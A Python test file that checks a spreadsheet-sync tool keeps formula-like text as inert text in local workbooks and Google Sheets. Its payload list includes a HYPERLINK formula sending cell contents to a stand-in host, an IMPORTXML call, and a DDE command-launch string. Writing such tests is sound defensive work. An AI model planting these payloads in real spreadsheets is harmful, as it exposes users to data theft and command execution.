"""No text ever becomes a formula: neither ours in a sheet, nor a sheet's in the records."""

import json
import re
from pathlib import Path
from zipfile import ZipFile

import openpyxl

from qaweb.people.models import Person
from qaweb.sheets.models import SheetEdit, Spreadsheet
from qaweb.sheets.rules import EditFate, GatewayKind
from sync.editing import edit_sheets
from sync.gateways.protocol import At, Batch, Binding, Done, NewRow
from sync.gateways.workbook import WorkbookGateway
from tests.cast import Cast
from tests.sheets_server.people import Person as Typist
from tests.sheets_server.server import SheetsServer
from tests.sync.editing_world import TITLE, bound_at_google
from tests.sync.gateway_contract import COVER, FIRST, PEOPLE
from tests.sync.google_desk import GoogleDesk

EVIL = [
    '=HYPERLINK("http://x?"&A1,"ok")', "=1+1", "+86 10 1234", "-1+1", "@SUM(A1)", "\t=1+1",
    "=cmd|' /C calc'!A0", '=IMPORTXML("http://x","//a")',
]  # fmt: skip
BATCH = Batch(
    2,
    cells={At("people", str(number), "name"): text for number, text in enumerate(EVIL)},
    new_rows={"people": [NewRow(f"n{number}", {"name": text}) for number, text in enumerate(EVIL)]},
    status={("people", str(number)): text for number, text in enumerate(EVIL)},
)
ROWS = {"people": [NewRow(str(number), FIRST) for number in range(len(EVIL))]}
MADE = {"people": [NewRow(str(number), {"name": text}) for number, text in enumerate(EVIL)]}


def test_no_text_in_a_workbook_of_ours_is_a_formula(tmp_path: Path) -> None:
    for rows, batch in ((ROWS, BATCH), (MADE, Batch(2))):
        path = tmp_path / f"{len(list(tmp_path.iterdir()))}.xlsx"
        gateway, binding = WorkbookGateway(), Binding(str(path), "our own", (PEOPLE,), COVER)
        assert isinstance(gateway.create(binding, rows), Done)
        assert isinstance(gateway.write(binding, batch), Done)
        with ZipFile(path) as file:
            sheets = [file.read(n) for n in file.namelist() if n.startswith("xl/worksheets/sheet")]
        formulas = {one for text in sheets for one in re.findall(rb"<f[ >][^<]*", text)}
        # Our hidden tab refers to the headers, so as to find the columns wherever they are moved.
        assert all(re.fullmatch("<f>'人员'!\\$[A-Z]\\$1", one.decode()) for one in formulas)
        cells = [cell for row in openpyxl.load_workbook(path)["人员"].iter_rows() for cell in row]
        assert set(EVIL) <= {cell.value for cell in cells if cell.data_type == "s"}


def test_nothing_that_goes_to_google_is_parsed_there(server: SheetsServer) -> None:
    desk = GoogleDesk(server)
    assert isinstance(desk.gateway.create(desk.binding, ROWS), Done)
    desk.gateway.read(desk.binding)
    assert isinstance(desk.gateway.write(desk.binding, BATCH), Done)
    sent = " ".join(call.text for call in server.calls)
    assert "formulaValue" not in sent
    assert "USER_ENTERED" not in sent
    cells = [cell for row in desk.person.sheet("人员").rows for cell in row]
    assert set(EVIL) <= {cell.value for cell in cells}
    assert not any(getattr(cell, "formula", "") for cell in cells)


def test_text_like_a_formula_comes_in_as_text_and_stays_so(
    cast: Cast, server: SheetsServer
) -> None:
    row = bound_at_google(cast.north, cast.assistant)
    google = {GatewayKind.GOOGLE: GoogleDesk(server).gateway}
    edit_sheets("w1", google)
    amy = Typist(server, Spreadsheet.get_by_id(row.id).address)
    head, *lines = amy.rows(TITLE)
    place = [line[head.index("工号")] for line in lines].index(cast.agent.number) + 2
    amy.type(TITLE, f"{'ABCDEFGH'[head.index('姓名')]}{place}", EVIL[0])
    amy.type(TITLE, f"{'ABCDEFGH'[head.index('入职日期')]}{place}", "=TODAY()")
    hired_on = Person.get_by_id(cast.agent.id).hired_on
    edit_sheets("w1", google)
    person = Person.get_by_id(cast.agent.id)
    assert (person.name, person.hired_on) == (EVIL[0], hired_on)
    assert [edit_sheets("w1", google) for _ in range(2)] == ["1 unchanged"] * 2
    formulas = [edit.typed for edit in SheetEdit.select() if edit.fate is EditFate.FORMULA]
    assert formulas == ["=TODAY()"]
    assert "formulaValue" not in json.dumps([call.text for call in server.calls if call.is_write])
